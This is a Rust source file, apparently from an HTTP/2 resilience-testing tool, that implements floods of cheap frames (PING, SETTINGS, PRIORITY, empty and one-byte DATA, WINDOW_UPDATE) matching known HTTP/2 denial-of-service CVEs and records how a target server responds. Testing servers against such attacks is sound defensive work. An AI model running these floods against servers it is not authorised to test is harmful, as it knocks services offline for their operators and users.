//! Frames that cost the sender nothing, some of which have to be answered.

use std::net::SocketAddr;

use bytes::Bytes;

use super::{Blocks, Heard, Wire};
use crate::peer::h2::{Frame, kind};

/// What is sent over and over.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// DATA without any, on a stream that is open (CVE-2019-9518).
    EmptyData,
    /// PING, each of which is answered (CVE-2019-9512).
    Ping,
    /// PRIORITY for streams that do not exist (CVE-2019-9513).
    Priority,
    /// SETTINGS, each of which is acknowledged (CVE-2019-9515).
    Settings,
    /// DATA of one byte, on a stream that is open, for a handler that does not read (CVE-2019-9517).
    TinyData,
    /// `WINDOW_UPDATE` by one.
    WindowUpdate,
}

impl Flood {
    /// Sends `count` of them on a connection of their own. What the server said by the time that it had seen all of them, or
    /// had had enough.
    pub async fn run(self, address: SocketAddr, path: &str, count: usize) -> Heard {
        let wire = Wire::http2(address, &[]).await;
        let (mut wire, frame) = self.start(wire, path).await;
        let batch = frame.repeat(BATCH);
        let mut open = true;
        for _ in 0..count.div_ceil(BATCH) {
            open = open && wire.send(&batch).await;
        }
        let pongs = match self {
            Self::Ping => count,
            _ => 0,
        };
        wire.send(Frame::ping(false, *b"are you?").encode()).await;
        let said = |heard: &Heard| heard.pongs > pongs || heard.go_away.is_some();
        wire.hear("an answer after a flood", said).await.clone()
    }

    /// Sends `count` of them and reads nothing: how many the server took before it wanted to be read from.
    pub async fn run_deaf(self, address: SocketAddr, path: &str, count: usize) -> usize {
        let wire = Wire::http2_deaf(address, &[]).await;
        let (mut wire, frame) = self.start(wire, path).await;
        let batch = frame.repeat(BATCH);
        let mut sent = 0;
        for _ in 0..count.div_ceil(BATCH) {
            let more = wire.send_deaf(&batch).await;
            sent += more;
            if more < batch.len() {
                break;
            }
        }
        sent / frame.len()
    }

    async fn start(self, mut wire: Wire, path: &str) -> (Wire, Bytes) {
        if matches!(self, Self::EmptyData | Self::TinyData) {
            let block = Blocks::new(path).block();
            let open = Frame::new(kind::HEADERS, END_HEADERS, 1, block);
            wire.send(open.encode()).await;
        }
        (wire, self.frame().encode())
    }

    fn frame(self) -> Frame {
        match self {
            Self::EmptyData => Frame::data(1, "", false),
            Self::Ping => Frame::ping(false, [7; 8]),
            Self::Priority => Frame::new(PRIORITY, 0, 1_001, &b"\0\0\0\0\x10"[..]),
            Self::Settings => Frame::settings(&[(INITIAL_WINDOW_SIZE, 65_535)]),
            Self::TinyData => Frame::data(1, &b"\0"[..], false),
            Self::WindowUpdate => Frame::new(kind::WINDOW_UPDATE, 0, 0, &b"\0\0\0\x01"[..]),
        }
    }
}

const BATCH: usize = 1_000;
const PRIORITY: u8 = 2;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;
